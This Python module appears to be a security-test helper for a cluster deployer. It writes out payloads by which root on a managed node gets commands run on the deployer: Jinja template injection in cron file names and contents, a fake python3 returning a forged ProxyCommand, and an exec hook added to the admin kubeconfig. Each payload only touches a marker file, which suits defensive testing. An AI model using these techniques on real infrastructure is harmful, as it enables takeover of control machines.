"""What root on one node does to get code run on the deployer: templates as names and texts, answers, a kubeconfig."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from urllib.parse import quote

SEALED = "/etc/cron.d/motd"
ADMIN = "/etc/kubernetes/admin.conf"
PYTHON = "/usr/bin/python3"


def template(marker: Path) -> str:
    """Makes the marker wherever it is evaluated; no slash, so that it can be the name of a file."""
    return f"{{{{ lookup('pipe', 'touch ' ~ ('{quote(str(marker), safe='')}' | urldecode)) }}}}"


def text(marker: Path) -> str:
    """A file that is full of what Jinja would take for its own, as a host of ours may have for good reasons."""
    return f"# {{# kept #}} {{% raw %}} {{{{ honest }}}} {{% endraw %}}\n{template(marker)}\n"


def sealed(marker: Path) -> str:
    """Puts that file there before the node is converged for the first time, so that its text is sealed."""
    return _written(SEALED, text(marker))


def named(marker: Path) -> str:
    """A file whose name is a template, and another text in the sealed one."""
    return f"{_written(f'/etc/cron.d/{template(marker)}', 'x')}; echo mine > {SEALED}"


def lying(marker: Path) -> str:
    """Puts a Python in place that answers every module by giving another host a proxy command."""
    proxy = f"-o ControlPath=none -o ProxyCommand='sh -c \"touch {marker}; exec false\"'"
    variables = {"ansible_ssh_common_args": proxy}
    answer = {"changed": True, "add_host": {"host_name": "cp-1", "groups": [], "host_vars": variables}}
    program = f"#!/bin/sh\ncat > /dev/null\ncat <<'END'\n@bmk@{json.dumps(answer)}\nEND\n"
    return f"cp -P {PYTHON} /root/python3; rm {PYTHON}; {_written(PYTHON, program)}; chmod 0755 {PYTHON}"


HONEST_AGAIN = f"rm {PYTHON}; cp -P /root/python3 {PYTHON}; rm /root/python3"


def commanding(marker: Path) -> str:
    """Lets the administrator's kubeconfig name a command; the credentials stay right."""
    command = {"apiVersion": "client.authentication.k8s.io/v1", "command": "touch", "args": [str(marker)],
               "interactiveMode": "Never"}  # fmt: skip
    return f"cp -p {ADMIN} /root/admin.conf; sed -i 's|^  user:|&\\n    exec: {json.dumps(command)}|' {ADMIN}"


COMMANDING_NO_MORE = f"mv /root/admin.conf {ADMIN}"


def _written(path: str, content: str) -> str:
    return f"printf %s {shlex.quote(content)} > {shlex.quote(path)}"
